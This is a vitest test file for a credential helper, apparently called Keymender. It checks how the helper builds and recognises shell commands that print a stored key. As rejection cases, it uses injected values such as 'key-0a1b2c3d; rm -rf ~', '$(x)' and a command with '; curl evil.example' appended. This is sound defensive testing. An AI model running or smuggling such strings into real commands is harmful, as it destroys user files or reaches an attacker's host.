import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { helperCommand, keyOfHelper, type HelperTools } from '../../../../src-main/core/accounts/helper-command';
import { given } from '../../../kit/planted-home';

const id = 'key-0a1b2c3d';
const tools: HelperTools = {
  platform: 'linux',
  secretTool: '/usr/bin/secret-tool',
  app: ['/opt/Keymender/keymender', '--headless'],
};
const command = (more: Partial<HelperTools> = {}) => given(helperCommand(id, { ...tools, ...more }));

describe('the command that prints a kept key', () => {
  it('is the system’s own tool where there is one', () => {
    expect(command()).toBe('/usr/bin/secret-tool lookup service Keymender account key-0a1b2c3d');
    expect(command({ platform: 'darwin' })).toBe(
      '/usr/bin/security find-generic-password -s Keymender -a key-0a1b2c3d -w',
    );
  });

  it('is Keymender itself where there is none', () => {
    expect(command({ secretTool: null })).toBe('/opt/Keymender/keymender --headless print-key key-0a1b2c3d');
    expect(command({ platform: 'win32', app: ['C:\\Program Files\\Keymender\\Keymender.exe', '--headless'] })).toBe(
      '"C:/Program Files/Keymender/Keymender.exe" --headless print-key key-0a1b2c3d',
    );
  });

  it.each(['50% off', 'a"b', '$HOME', 'back`tick', 'wow!'])('is refused on Windows below a folder %s', (folder) => {
    const made = helperCommand(id, { platform: 'win32', secretTool: null, app: [`C:/${folder}/Keymender.exe`] });
    expect(made).toMatchObject({ ok: false, error: { code: 'no-helper-command' } });
  });

  it.each(['key-0a1b2c3d; rm -rf ~', '$(x)', 'key-XYZ', ''])('takes no %j for an id', (wrong) => {
    expect(helperCommand(wrong, tools)).toMatchObject({ ok: false });
  });

  it('reaches the program word for word through the shell, whatever its folder is called', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom(...`'"\\ $\`&;*?!#~()[]{}|<>=%é🦊ab`), maxLength: 12 }),
        (folder) => {
          const line = command({ secretTool: null, app: [`/opt/${folder}/keymender`, '--headless'] });
          const seen = execFileSync('/bin/sh', ['-c', `set -- ${line}; for word; do printf '%s\\0' "$word"; done`], {
            env: {},
            timeout: 5000,
          });
          expect(seen.toString('utf8').split('\0').slice(0, -1)).toEqual([
            `/opt/${folder}/keymender`,
            '--headless',
            'print-key',
            id,
          ]);
        },
      ),
      { numRuns: 60 },
    );
  });
});

describe('a helper command that is there', () => {
  it.each([
    command(),
    command({ platform: 'darwin' }),
    command({ secretTool: null }),
    command({ secretTool: null, app: ["/home/o'brien/My Apps/keymender", '--headless'] }),
    command({ platform: 'win32', app: ['C:/Program Files/K/K.exe', '--headless'] }),
  ])('is known again: %s', (line) => {
    expect(keyOfHelper(line)).toBe(id);
    expect(keyOfHelper(`  ${line}\n`)).toBe(id);
  });

  it.each([
    '~/bin/get-key.sh',
    'secret-tool lookup service other account key-0a1b2c3d',
    'echo print-keykey-0a1b2c3d',
    `${command()}; curl evil.example`,
    '',
  ])('is somebody else’s: %s', (line) => {
    expect(keyOfHelper(line)).toBeNull();
  });
});
